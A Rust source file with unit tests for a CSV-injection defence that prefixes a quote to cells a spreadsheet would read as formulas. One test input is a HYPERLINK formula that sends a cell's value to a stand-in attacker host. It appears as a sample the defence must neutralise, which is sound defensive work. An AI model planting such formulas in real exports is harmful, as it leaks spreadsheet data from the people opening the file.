//! The one rule for text cells of every CSV file govpulse writes for people
//! (REST `format=csv` answers, `govpulse kpi --format csv`, `govpulse
//! rejected export --format csv`): a spreadsheet runs a cell that starts
//! with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
//! formula, so a dossier id such as `=HYPERLINK(…)` sent by a source would
//! become a link or a command in the reader's spreadsheet (CSV injection).
//!
//! Following OWASP's advice, such a cell gets a leading single quote `'`,
//! which spreadsheets show as text; the CSV writer then quotes the cell as
//! it needs. Only text cells go through here: numbers the server computes
//! (counts, percentages, `-3`) are written as they are, so they stay
//! numbers.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as a CSV text cell that no spreadsheet reads as a formula.
pub fn text(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::text;

    #[test]
    fn formula_starts_get_a_quote() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")",
            ),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("+1", "'+1"),
            ("-2+3", "'-2+3"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
        ] {
            assert_eq!(text(cell), want, "{cell:?}");
        }
    }

    #[test]
    fn other_cells_are_left_as_they_are() {
        for cell in [
            "",
            "D-2025-000123",
            "Thành phố Hà Nội",
            "1.001757",
            "a=b",
            " =1",
            "'=already quoted",
            "2025-11-20T08:00:00+07:00",
        ] {
            assert!(
                matches!(text(cell), std::borrow::Cow::Borrowed(c) if c == cell),
                "{cell:?}"
            );
        }
    }

    #[test]
    fn the_csv_writer_quotes_what_it_needs_after_the_prefix() {
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record([text("=1,2").as_ref(), text("@x").as_ref(), "-3"])
            .unwrap();
        let out = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(out, "\"'=1,2\",'@x,-3\n");
    }
}
